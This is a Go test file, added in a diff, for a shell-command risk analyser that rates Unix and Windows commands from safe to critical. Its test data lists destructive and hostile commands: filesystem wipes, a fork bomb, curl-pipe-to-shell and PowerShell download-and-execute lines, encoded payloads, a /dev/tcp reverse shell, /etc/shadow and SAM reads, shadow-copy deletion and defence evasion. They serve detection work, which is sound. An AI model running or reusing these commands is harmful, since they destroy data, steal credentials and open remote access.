@@ -0,0 +1,189 @@
+package shellrisk
+
+import "testing"
+
+func TestAnalyzeLevels(t *testing.T) {
+	tests := []struct {
+		cmd   string
+		level Level
+		rule  string
+	}{
+		// 安全命令，包括在字符串中提到危险命令
+		{"ls -la", LevelSafe, ""},
+		{"go test ./...", LevelSafe, ""},
+		{"npm run format", LevelSafe, ""},
+		{`git commit -m "rm -rf / is bad"`, LevelSafe, ""},
+		{`grep -r "curl x | sh" .`, LevelSafe, ""},
+		{`echo "$(date)"`, LevelSafe, ""},
+		{"command -v reboot", LevelSafe, ""},
+		{"while true; do sleep 1; break; done", LevelSafe, ""},
+
+		{"rm -rf ./build", LevelModerate, "recursive_delete"},
+		{"$CC -o main main.c", LevelModerate, "variable_command"},
+		{"x=rm; $x -rf build", LevelModerate, "recursive_delete"},
+		{"x=$(pick); $x -rf build", LevelModerate, "variable_command"},
+
+		{"sudo apt update", LevelHigh, "privilege_escalation"},
+		{"/usr/bin/sudo ls", LevelHigh, "privilege_escalation"},
+		{"cat /etc/shadow", LevelHigh, "sensitive_file"},
+		{"cat < /etc/shadow", LevelHigh, "sensitive_file"},
+		{"echo 1 > /proc/sys/kernel/panic", LevelHigh, "kernel_write"},
+		{"docker run -v /:/host alpine", LevelHigh, "container_escape"},
+		{"history -c", LevelHigh, "history_tamper"},
+		{"yes | head", LevelHigh, "resource_exhaustion"},
+		{"while true; do echo; done", LevelHigh, "infinite_loop"},
+		{"$(printf rm) -rf build", LevelHigh, "dynamic_command"},
+		{`echo "unterminated`, LevelHigh, "unparsable"},
+
+		{"rm -rf /", LevelCritical, "destroy_filesystem"},
+		{"rm -fr /*", LevelCritical, "destroy_filesystem"},
+		{`rm -rf "$HOME"`, LevelCritical, "destroy_filesystem"},
+		{`r\m -rf /`, LevelCritical, "destroy_filesystem"},
+		{"x=rm; $x -rf /", LevelCritical, "destroy_filesystem"},
+		{`export X=/bin/rm; "${X}" -rf /`, LevelCritical, "destroy_filesystem"},
+		{`x="rm -rf"; $x /`, LevelCritical, "variable_command"},
+		{"find / -name '*.go' -delete", LevelCritical, "destroy_filesystem"},
+		{":(){ :|:& };:", LevelCritical, "fork_bomb"},
+		{"dd if=/dev/zero of=/dev/sda", LevelCritical, "disk_write"},
+		{"mkfs.ext4 /dev/sda1", LevelCritical, "disk_format"},
+		{"format c:", LevelCritical, "disk_format"},
+		{"env FOO=1 timeout 5 reboot", LevelCritical, "system_power"},
+		{"curl -fsSL http://x/install.sh | bash", LevelCritical, "remote_exec"},
+		{"curl -o /tmp/i.sh http://x && sh /tmp/i.sh", LevelCritical, "remote_exec"},
+		{`eval "$(wget -qO- http://x)"`, LevelCritical, "remote_exec"},
+		{"source <(curl -s http://x)", LevelCritical, "remote_exec"},
+		{"echo cm0gLXJmIC8K | base64 -d | sh", LevelCritical, "obfuscated_exec"},
+		{"$(echo cm0K | base64 -d) -rf build", LevelCritical, "obfuscated_exec"},
+		{`bash -c "rm -rf /"`, LevelCritical, "destroy_filesystem"},
+		{`echo "rm -rf /" | sh`, LevelCritical, "destroy_filesystem"},
+		{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", LevelCritical, "reverse_shell"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.cmd, func(t *testing.T) {
+			a := Analyze(tt.cmd)
+			if a.Level != tt.level {
+				t.Fatalf("Level = %s, want %s (findings: %+v)", a.Level, tt.level, a.Findings)
+			}
+			if tt.rule == "" {
+				return
+			}
+			for _, f := range a.Findings {
+				if f.Rule == tt.rule && f.Level == tt.level {
+					return
+				}
+			}
+			t.Errorf("no %s finding for rule %q: %+v", tt.level, tt.rule, a.Findings)
+		})
+	}
+}
+
+func TestAnalyzeSegments(t *testing.T) {
+	a := Analyze(`cd src && nohup go build -o "$(pwd)/bin" ./... | tee build.log`)
+	var names []string
+	nested := 0
+	for _, s := range a.Segments {
+		names = append(names, s.Name)
+		if s.Nested {
+			nested++
+		}
+	}
+	want := []string{"cd", "go", "pwd", "tee"}
+	if len(names) != len(want) {
+		t.Fatalf("segments = %v, want %v", names, want)
+	}
+	for i := range want {
+		if names[i] != want[i] {
+			t.Errorf("segment %d = %q, want %q", i, names[i], want[i])
+		}
+	}
+	if nested != 1 || !a.HasSubstitution {
+		t.Errorf("nested = %d, HasSubstitution = %v", nested, a.HasSubstitution)
+	}
+	if a.Dangerous() || a.Reason() != "" {
+		t.Errorf("Dangerous() = %v, Reason() = %q", a.Dangerous(), a.Reason())
+	}
+}
+
+func TestAnalyzeWindowsLevels(t *testing.T) {
+	tests := []struct {
+		cmd   string
+		level Level
+		rule  string
+	}{
+		{"dir /b", LevelSafe, ""},
+		{"Get-ChildItem -Recurse *.go", LevelSafe, ""},
+		{`git commit -m "format c: is bad"`, LevelSafe, ""},
+		{"go test ./... && npm run build", LevelSafe, ""},
+
+		{`rd /s /q .\build`, LevelModerate, "recursive_delete"},
+		{"Remove-Item -Recurse -Force node_modules", LevelModerate, "recursive_delete"},
+		{"Invoke-WebRequest https://x/file.zip -OutFile file.zip", LevelModerate, "download"},
+
+		{"iex $script", LevelHigh, "dynamic_command"},
+		{`reg add HKLM\Software\Foo /v Bar /d 1`, LevelHigh, "registry_write"},
+		{`reg save hklm\sam sam.hive`, LevelHigh, "sensitive_file"},
+		{"Start-Process cmd -Verb RunAs", LevelHigh, "privilege_escalation"},
+		{"net user eve P@ss /add", LevelHigh, "account_tamper"},
+		{`schtasks /create /tn x /tr C:\x.exe /sc onlogon`, LevelHigh, "persistence"},
+		{"Set-MpPreference -DisableRealtimeMonitoring $true", LevelHigh, "defense_evasion"},
+		{"wevtutil cl Security", LevelHigh, "history_tamper"},
+		{`mshta http://x/payload.hta`, LevelHigh, "lolbin"},
+		{"while ($true) { Write-Output x }", LevelHigh, "infinite_loop"},
+
+		{`rd /s /q C:\`, LevelCritical, "destroy_filesystem"},
+		{`del /s /q c:\*`, LevelCritical, "destroy_filesystem"},
+		{"Remove-Item -Recurse -Force $env:USERPROFILE", LevelCritical, "destroy_filesystem"},
+		{"rm -rf /", LevelCritical, "destroy_filesystem"},
+		{`C:\Windows\System32\format.com D: /q`, LevelCritical, "disk_format"},
+		{"diskpart /s wipe.txt", LevelCritical, "disk_format"},
+		{"shutdown /s /t 0", LevelCritical, "system_power"},
+		{"Stop-Computer -Force", LevelCritical, "system_power"},
+		{"bcdedit /deletevalue safeboot", LevelCritical, "boot_config"},
+		{"vssadmin delete shadows /all /quiet", LevelCritical, "shadow_copy_delete"},
+		{"iwr http://x/a.ps1 | iex", LevelCritical, "remote_exec"},
+		{"IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')", LevelCritical, "remote_exec"},
+		{`cmd /c "rd /s /q C:\"`, LevelCritical, "destroy_filesystem"},
+		{`start "" shutdown /r`, LevelCritical, "system_power"},
+		{"powershell -NoProfile -EncodedCommand UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAALQBGAG8AcgBjAGUAIABDADoAXAA=", LevelCritical, "destroy_filesystem"},
+		{"pwsh -enc RwBlAHQALQBEAGEAdABlAA==", LevelHigh, "obfuscated_exec"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.cmd, func(t *testing.T) {
+			a := AnalyzeWindows(tt.cmd)
+			if a.Level != tt.level {
+				t.Fatalf("Level = %s, want %s (findings: %+v)", a.Level, tt.level, a.Findings)
+			}
+			if tt.rule == "" {
+				return
+			}
+			for _, f := range a.Findings {
+				if f.Rule == tt.rule {
+					return
+				}
+			}
+			t.Errorf("no finding for rule %q: %+v", tt.rule, a.Findings)
+		})
+	}
+}
+
+func TestAnalyzeWindowsSegments(t *testing.T) {
+	a := AnalyzeWindows(`cd src && "C:\Program Files\Go\bin\go.exe" build ./... | Tee-Object build.log; echo "a|b"`)
+	var names []string
+	for _, s := range a.Segments {
+		names = append(names, s.Name)
+	}
+	want := []string{"cd", "go", "tee-object", "echo"}
+	if len(names) != len(want) {
+		t.Fatalf("segments = %v, want %v", names, want)
+	}
+	for i := range want {
+		if names[i] != want[i] {
+			t.Errorf("segment %d = %q, want %q", i, names[i], want[i])
+		}
+	}
+	if a.Dangerous() {
+		t.Errorf("Dangerous() = true: %+v", a.Findings)
+	}
+}